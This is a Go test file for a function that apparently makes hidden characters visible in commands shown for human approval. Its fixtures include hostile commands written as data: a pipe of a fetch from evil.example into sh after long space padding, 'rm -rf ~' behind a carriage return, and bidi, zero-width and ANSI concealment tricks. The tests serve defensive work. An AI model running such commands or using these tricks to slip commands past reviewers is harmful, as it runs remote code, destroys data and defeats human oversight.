package approval

import (
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	for _, tt := range []struct {
		name, in, want string
	}{
		{"plain command as is", `grep -n "a\.b" x | sed 's/\t/ /'`, `grep -n "a\.b" x | sed 's/\t/ /'`},
		{"padded command", "ls" + strings.Repeat(" ", 700) + "; curl https://evil.example/x | sh", "ls␠×700; curl https://evil.example/x | sh"},
		{"short runs of spaces as is", "a       b", "a       b"},
		{"a digit after a count", "echo" + strings.Repeat(" ", 9) + "7", `echo␠×9\u0037`},
		{"a × after a count", "a" + strings.Repeat(" ", 9) + "×2", `a␠×9\u00d72`},
		{"indentation as is", strings.Repeat(" ", 12) + "return x", strings.Repeat(" ", 12) + "return x"},
		{"deep indentation counted", strings.Repeat(" ", 40) + "x", "␠×40x"},
		{"ANSI escapes", "echo \x1b[8mhidden\x1b[0m", `echo \u001b[8mhidden\u001b[0m`},
		{"carriage return", "safe\rrm -rf ~", `safe\u000drm -rf ~`},
		{"bidi override", "ls \u202e hs.lave", `ls \u202e hs.lave`},
		{"bidi isolates", "a\u2066b\u2069", `a\u2066b\u2069`},
		{"zero-width joiner and space", "c\u200durl\u200b", `c\u200durl\u200b`},
		{"byte order mark", "\ufeffls", `\ufeffls`},
		{"non-ASCII spaces", "a\u00a0b\u3000c", `a\u00a0b\u3000c`},
		{"Hangul filler", "a\u3164b", `a\u3164b`},
		{"tag characters", "a\U000e0041", `a\udb40\udc41`},
		{"tabs", "a\tb\t\tc", "a␉b␉␉c"},
		{"a × after a tab", "a\t×", `a␉\u00d7`},
		{"a run of tabs", "a" + strings.Repeat("\t", 10) + "b", "a␉×10b"},
		{"line breaks as is", "a\nb\n\nc", "a\nb\n\nc"},
		{"a run of line breaks", "ls" + strings.Repeat("\n", 50) + "curl x|sh", "ls␤×50\ncurl x|sh"},
		{"notation typed literally", "␠×700 ␉ ␤ ␣", `\u2420×700 \u2409 \u2424 \u2423`},
		{"escape typed literally", `printf '\u202e'`, `printf '\\u202e'`},
		{"backslashes before an escape", "\\\u202e", `\\\u202e`},
		{"two backslashes and u", `\\u`, `\\\\u`},
		{"backslashes elsewhere as is", `a\\b\n`, `a\\b\n`},
		{"triple backticks cannot close the block", "a```b````", "a``\\u0060b``\\u0060`"},
		{"not UTF-8", "a\xffb", `a\ufffdb`},
		{"accents as is", "café ünïcödé 日本", "café ünïcödé 日本"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := Visible(tt.in)
			if got != tt.want {
				t.Errorf("Visible(%q) =\n%q, want\n%q", tt.in, got, tt.want)
			}
			if tt.in != "a\xffb" { // invalid UTF-8 reads as U+FFFD, as the tool reads it
				if back, err := unvisible(got); err != nil || back != tt.in {
					t.Errorf("read back %q (%v), want %q", back, err, tt.in)
				}
			}
		})
	}
}

func TestVisibleModes(t *testing.T) {
	for _, tt := range []struct {
		name string
		in   string
		mode visMode
		want string
	}{
		{"inline escapes line breaks and every backtick", "a\nb`c", modeInline, `a\u000ab\u0060c`},
		{"inline doubles a backslash before an escaped backtick", "a\\`", modeInline, `a\\\u0060`},
		{"JSON keeps its own escapes", `{"a": "x\\u202ey\n", "b": "` + "\u202e" + `"}`, modeJSON, `{"a": "x\\u202ey\n", "b": "\u202e"}`},
		{"JSON counts long runs in strings", `"` + strings.Repeat(" ", 20) + `"`, modeJSON, `"␠×20"`},
		{"diff keeps indentation after the sign", "+" + strings.Repeat(" ", 12) + "x\n-" + strings.Repeat(" ", 12) + "y", modeDiff,
			"+" + strings.Repeat(" ", 12) + "x\n-" + strings.Repeat(" ", 12) + "y"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got, _ := visible(tt.in, tt.mode); got != tt.want {
				t.Errorf("visible(%q) =\n%q, want\n%q", tt.in, got, tt.want)
			}
		})
	}
}

// The notation is unambiguous: whatever the text, reading the rendering
// back gives the text.
func FuzzVisible(f *testing.F) {
	for _, s := range []string{"ls" + strings.Repeat(" ", 700) + "; curl x", "\x1b[31m", "\u202e", `\u202e`, "\\\u202e",
		"␠×7", "a\t\t×1", "```", "\n\n\n\n\nx", strings.Repeat(" ", 33) + "9", `\\\`, "\U0001f600\u200d"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return // read as U+FFFD, as the tools read it
		}
		out := Visible(s)
		back, err := unvisible(out)
		if err != nil || back != s {
			t.Fatalf("Visible(%q) = %q reads back as %q (%v)", s, out, back, err)
		}
		if strings.Contains(out, "```") {
			t.Fatalf("Visible(%q) = %q closes a code block", s, out)
		}
		for _, r := range out {
			if r != '\n' && r != markSpace && r != markTab && r != markNewline && mustEscape(r, modeText) {
				t.Fatalf("Visible(%q) = %q holds %U", s, out, r)
			}
		}
	})
}

// unvisible reads text mode's notation back (the way a person reads the
// card): it fails on anything the notation cannot produce.
func unvisible(s string) (string, error) {
	var b strings.Builder
	rs := []rune(s)
	count := func(i int) (int, int, error) { // the count after ×, at rs[i]
		j := i
		for j < len(rs) && '0' <= rs[j] && rs[j] <= '9' {
			j++
		}
		n, err := strconv.Atoi(string(rs[i:j]))
		return n, j, err
	}
	for i := 0; i < len(rs); {
		switch r := rs[i]; {
		case r == '\\':
			k := i
			for k < len(rs) && rs[k] == '\\' {
				k++
			}
			n := k - i
			if k == len(rs) || rs[k] != 'u' {
				b.WriteString(strings.Repeat(`\`, n))
				i = k
				continue
			}
			b.WriteString(strings.Repeat(`\`, n/2))
			if n%2 == 0 {
				i = k // a typed u follows
				continue
			}
			// An escape: \uXXXX, or a surrogate pair.
			hex := func(at int) (rune, error) {
				if at+5 > len(rs) || rs[at] != 'u' {
					return 0, strconv.ErrSyntax
				}
				v, err := strconv.ParseUint(string(rs[at+1:at+5]), 16, 32)
				return rune(v), err
			}
			v, err := hex(k)
			if err != nil {
				return "", err
			}
			i = k + 5
			if utf16.IsSurrogate(v) {
				if i+1 >= len(rs) || rs[i] != '\\' {
					return "", strconv.ErrSyntax
				}
				lo, err := hex(i + 1)
				if err != nil {
					return "", err
				}
				v = utf16.DecodeRune(v, lo)
				i += 6
			}
			b.WriteRune(v)
		case r == markSpace || r == markNewline || (r == markTab && i+1 < len(rs) && rs[i+1] == markTimes):
			if i+1 >= len(rs) || rs[i+1] != markTimes {
				return "", strconv.ErrSyntax
			}
			n, j, err := count(i + 2)
			if err != nil {
				return "", err
			}
			c := map[rune]string{markSpace: " ", markTab: "\t", markNewline: "\n"}[r]
			b.WriteString(strings.Repeat(c, n))
			i = j
			if r == markNewline {
				if i >= len(rs) || rs[i] != '\n' {
					return "", strconv.ErrSyntax
				}
				i++
			}
		case r == markTab:
			b.WriteByte('\t')
			i++
		default:
			b.WriteRune(r)
			i++
		}
	}
	return b.String(), nil
}
